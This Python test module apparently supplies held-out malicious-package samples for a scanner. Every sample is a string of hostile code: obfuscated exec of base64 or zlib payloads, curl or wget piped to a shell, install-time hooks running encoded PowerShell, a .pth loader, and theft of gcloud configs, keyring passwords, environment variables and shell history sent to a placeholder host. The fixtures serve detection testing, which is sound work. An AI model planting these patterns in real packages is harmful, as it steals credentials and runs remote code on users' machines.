"""Variants that were written when the checks were tuned, and are not tuned on."""

import base64
import zlib

from tests.malicious.making import HOOK, HOST, INERT, Sample, b64, imported, installed, raw

FAMILY = "held out"


def samples() -> list[Sample]:
    """All of them."""

    def sample(name: str, text: str, **more: str) -> Sample:
        return imported(FAMILY, name, text, **more)

    return [
        sample(
            "nested functions",
            f"def a():\n    def b():\n        import base64\n        return base64.b64decode('{b64()}')\n    return b\nexec(a()())\n",
        ),
        sample(
            "table of functions",
            f"import base64\nF = {{'d': base64.b64decode, 'r': exec}}\nF['r'](F['d']('{b64()}'))\n",
        ),
        sample(
            "star import",
            f"from base64 import *\nfrom os import *\nsystem('curl {HOST}/a | bash')\n",
        ),
        sample(
            "walrus",
            f"import urllib.request as u\nif (c := u.urlopen('{HOST}').read()):\n    exec(c)\n",
        ),
        sample(
            "yielded",
            f"import requests\ndef parts():\n    yield requests.get('{HOST}').text\nfor part in parts():\n    exec(part)\n",
        ),
        sample(
            "with a session",
            f"import requests\nwith requests.Session() as s:\n    r = s.get('{HOST}/x')\n    exec(r.content)\n",
        ),
        sample(
            "percent and split",
            f"import os\ncmd = 'curl|-s|{HOST}/a|sh'.split('|')\nos.system('%s %s %s | %s' % tuple(cmd))\n",
        ),
        sample(
            "partial",
            f"import functools, base64\nrun = functools.partial(exec, base64.b64decode('{b64()}'))\nrun()\n",
        ),
        sample(
            "reduce over bytes",
            f"import functools\ntext = functools.reduce(lambda a, c: a + chr(c ^ 9), {[ord(c) ^ 9 for c in INERT]}, '')\nexec(text)\n",
        ),
        sample(
            "zlib in a data file",
            "import zlib, pathlib\nexec(zlib.decompress(pathlib.Path(__file__).with_name('d.bin').read_bytes()))\n",
        ),
        sample(
            "property of a class",
            f"class Config:\n    @property\n    def home(self):\n        import os\n        return os.popen('wget -qO- {HOST}/s | sh').read()\nConfig().home\n",
        ),
        sample(
            "tokens by walk",
            f"import os, requests\nfor base, _, names in os.walk(os.path.expanduser('~/.config/gcloud')):\n    for n in names:\n        requests.post('{HOST}', data=open(os.path.join(base, n)).read())\n",
        ),
        sample(
            "keyring",
            f"import keyring, httpx\nhttpx.post('{HOST}', json={{'p': keyring.get_password('system', 'pypi')}})\n",
        ),
        sample(
            "environment in a query",
            f"import os, urllib.parse, urllib.request\nq = urllib.parse.urlencode(os.environ)\nurllib.request.urlopen('{HOST}/?' + q)\n",
        ),
        sample(
            "raw socket with the host's name",
            "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(socket.gethostname().encode(), ('127.0.0.1', 53))\n",
        ),
        sample(
            "history of the shell",
            f"import os, requests\nh = open(os.path.join(os.environ['HOME'], '.bash_history')).read()\nrequests.post('{HOOK}', json={{'content': h[:1900]}})\n",
        ),
        installed(
            FAMILY,
            "class made at install",
            f"import setuptools, setuptools.command.install as i\nclass X(i.install):\n    def finalize_options(self):\n        import subprocess\n        subprocess.Popen(['powershell', '-enc', '{b64()}'])\nsetuptools.setup(name='demo', cmdclass=dict(install=X))\n",
        ),
        installed(
            FAMILY,
            "runs a file of its own",
            "import subprocess, sys\nfrom setuptools import setup\nsubprocess.call([sys.executable, 'tools/post.py'])\nsetup(name='demo')\n",
            tools__post=f"import base64\nexec(base64.b64decode('{b64()}'))\n",
        ),
        sample(
            "async callback",
            f"import asyncio, base64\nasync def late():\n    exec(base64.b64decode('{b64()}'))\nloop = asyncio.new_event_loop()\nloop.run_until_complete(late())\n",
        ),
        sample(
            "written module then imported",
            f"import urllib.request, importlib\nopen('/tmp/zz.py', 'wb').write(urllib.request.urlopen('{HOST}').read())\nimport sys\nsys.path.insert(0, '/tmp')\nimportlib.import_module('zz')\n",
        ),
        Sample(
            FAMILY,
            ".pth with a tab",
            {
                "zz.pth": raw(
                    f"import\tzlib,base64;exec(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(INERT.encode()))!r})))\n"
                ),
                "demo/__init__.py": b"",
            },
        ),
        sample(
            "hex escapes",
            "__import__('\\x6f\\x73').system('\\x63\\x75\\x72\\x6c http://example.invalid|sh')\n",
        ),
    ]
